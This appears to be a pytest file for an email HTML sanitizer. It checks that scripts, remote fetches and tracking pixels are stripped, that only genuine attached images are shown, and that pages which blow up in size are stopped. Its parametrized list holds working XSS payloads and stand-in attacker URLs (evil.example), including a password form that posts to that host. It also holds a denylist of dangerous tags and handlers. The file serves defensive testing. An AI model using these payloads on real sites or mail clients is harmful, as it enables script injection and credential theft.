"""The HTML of a stranger runs nothing, fetches nothing, and shows the images that came with it."""

import base64

import pytest

from cpm.channels.mail import shown

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20


def mail(page: str, *images: tuple[str, bytes]) -> bytes:
    parts = [f"Content-Type: text/html; charset=utf-8\r\n\r\n{page}".encode()]
    for key, content in images:
        head = f"Content-Type: image/png\r\nContent-ID: <{key}>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        parts.append(head.encode() + base64.b64encode(content))
    body = b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n"
    return b'From: a@example.org\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n' + body


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
        "<a href=' jAvA\tscript:alert(1)'>x</a>", "<iframe src='//evil.example'></iframe>", "<svg onload=alert(1)></svg>",
        "<math><mtext></p><style><img src=x onerror=alert(1)></style>", "<style>@import 'http://evil.example'</style>",
        "<p style='background:url(http://evil.example)'>x</p>", "<link rel=stylesheet href=http://evil.example>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<base href=http://evil.example>",
        "<form action=http://evil.example><input name=password></form>", "<object data=http://evil.example></object>",
        "<img srcset='http://evil.example/x.png 2x'>", "<table background=http://evil.example><tr><td>x</table>",
        "<video poster=http://evil.example></video>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    ],
)  # fmt: skip
def test_nothing_runs_and_nothing_is_fetched(hostile):
    page = shown.of_mail(mail(f"<p>vorher</p>{hostile}<p>nachher</p>")).html.lower()
    assert "evil.example" not in page
    for word in (
        "<script",
        "onerror",
        "onload",
        "javascript:",
        "<iframe",
        "<form",
        "<style",
        "<svg",
        "<base",
        "<meta",
    ):
        assert word not in page


def test_images_from_elsewhere_are_left_out_and_counted():
    found = shown.of_mail(
        mail("<img src='https://evil.example/pixel.gif'><img src='//evil.example/x'><img src='cid:none'>")
    )
    assert "src" not in found.html
    assert found.blocked >= 2


def test_images_that_came_along_are_shown_if_they_are_some():
    found = shown.of_mail(
        mail("<img src='cid:a@b'><img src='cid:c@d'>", ("a@b", PNG), ("c@d", b"<svg onload=x>"))
    )
    assert found.html.count("data:image/png;base64,") == 1
    assert found.blocked == 1


def test_a_mail_of_text_alone_has_no_layout():
    assert shown.of_mail(b"From: a@example.org\r\n\r\nhallo\r\n") is None


@pytest.mark.parametrize(
    "page",
    [
        "<p>" + "".join(f"<b id={number}>" for number in range(15_000)) + "<p>x" * 15_000,
        '<img src="cid:a">' * 10_000,
    ],
    ids=["formatting that is opened again in every paragraph", "one large image shown ten thousand times"],
)
def test_a_page_that_would_grow_without_end_is_stopped(page: str):
    """44 kB of the first kind became 63 MB and took seven seconds of whoever looked at it."""
    image = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(600_000)).decode()
    raw = (
        "From: a@b.example\r\nContent-Type: multipart/related; boundary=x\r\n\r\n"
        f"--x\r\nContent-Type: text/html\r\n\r\n{page}\r\n"
        f"--x\r\nContent-Type: image/png\r\nContent-ID: <a>\r\nContent-Transfer-Encoding: base64\r\n\r\n{image}\r\n--x--\r\n"
    )
    found = shown.of_mail(raw.encode())
    assert found is not None
    assert len(found.html) < 20_000_000
    assert found.tangled or found.blocked > 9_000
